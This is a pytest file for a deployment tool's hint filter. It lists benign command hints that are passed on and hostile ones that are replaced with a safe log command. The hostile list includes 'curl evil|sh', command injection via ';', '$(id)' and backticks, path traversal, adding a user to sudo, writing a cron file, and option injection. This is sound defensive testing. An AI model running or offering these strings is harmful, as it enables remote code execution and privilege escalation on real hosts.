"""Which hints of records are passed on: the worker's own, where no name in them could do harm."""

from datetime import UTC, datetime

import pytest

from hookd.cli.progress import hint_of
from hookd.model.deployment import Deployment, Trigger

ID = "shop-20260801T120000000-abcdef"


def passed_on(hint: str | None) -> str | None:
    return hint_of(
        Deployment(id=ID, app="shop", trigger=Trigger.PUSH, created_at=datetime(2026, 8, 1, tzinfo=UTC), hint=hint)
    )


@pytest.mark.parametrize(
    "hint",
    [
        None,
        "hookd deploy shop",
        "hookd status",
        "hookd doctor shop",
        "journalctl --unit 'hookd-worker@*' --lines 50",
        f"hookd logs {ID}",
        "push a newer commit, or try this one by hand: hookd deploy shop",
        "check that the address, the branch and the deploy key are right, then: hookd deploy shop",
        "sudo hookd thaw shop",
        "hookd thaw shop",
        "push a newer commit, or follow the branch again: hookd unpin shop",
        "to deploy it all the same: hookd deploy shop",
        "name a commit: hookd rollback shop --to COMMIT",
        "sudo hookd permissions shop --fix",
        "journalctl --unit shop-blue.service --lines 50",
        "systemctl status shop@1.service",
        "circusctl --endpoint ipc:///run/circus.sock status",
        "circusctl --endpoint tcp://127.0.0.1:5555 status",
        "df -h /srv/shop/releases",
        "git rm -r --cached static/uploads, add it to .gitignore, and push",
        "git rm -r --cached .env, add it to .gitignore, and push",
        "set dependencies.allow_build = true in the app's file, to let packages run build code as the worker",
    ],
)
def test_what_the_worker_says_is_passed_on(hint: str | None) -> None:
    assert passed_on(hint) == hint


@pytest.mark.threat(65)
@pytest.mark.parametrize(
    "hint",
    [
        "",
        "curl evil|sh",
        "hookd deploy shop; curl evil|sh",
        "hookd deploy shop\n",
        "hookd deploy $(id)",
        "hookd uninstall",
        "sudo hookd thaw blog",
        "push a newer commit, or follow the branch again: hookd unpin blog",
        "sudo hookd uninstall",
        "sudo install -d -o manager -g manager -m 2770 /etc",
        "sudo usermod --append --groups sudo manager, then restart the worker",
        "create it: install -D -m 0640 /dev/stdin /etc/cron.d/x",
        "df -h /srv `id`",
        "df -h /srv/../etc",
        "df -h /srv --output",
        "journalctl --unit --vacuum-size=1.service --lines 50",
        "systemctl status -H evil.service",
        "circusctl --endpoint tcp://evil status; id",
        "git rm -r --cached --pathspec-from-file=x, add it to .gitignore, and push",
        "git rm -r --cached ../x y, add it to .gitignore, and push",
    ],
)
def test_anything_else_is_not(hint: str) -> None:
    assert passed_on(hint) == f"hookd logs {ID}"
